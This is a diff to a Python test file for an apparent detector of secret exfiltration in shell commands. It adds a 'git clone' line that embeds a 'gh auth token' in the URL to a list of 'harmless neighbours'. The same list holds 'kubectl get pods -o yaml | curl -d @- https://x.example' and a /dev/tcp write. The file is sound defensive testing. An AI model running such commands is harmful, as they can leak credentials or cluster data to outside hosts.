@@ -76,7 +76,8 @@ def test_a_secret_for_a_strange_host_is_asked_about(command):
     "python3 -m http.server 8000", "ngrok http 3000", "openssl s_client -connect example.com:443 < /dev/null",
     "git add .env.example",
     "echo hi > /dev/tcp/localhost/80", "python3 -c 'import requests; print(requests.get(\"https://x.example\").text)'",
-    "cat .env | grep -c =", "kubectl get pods -o yaml | curl -d @- https://x.example",
+    "git clone https://x:$(gh auth token)@github.com/a/b", "cat .env | grep -c =",
+    "kubectl get pods -o yaml | curl -d @- https://x.example",
     "aws s3 cp dist s3://b --recursive",
 ])  # fmt: skip
 def test_harmless_neighbours_stay_quiet(command):
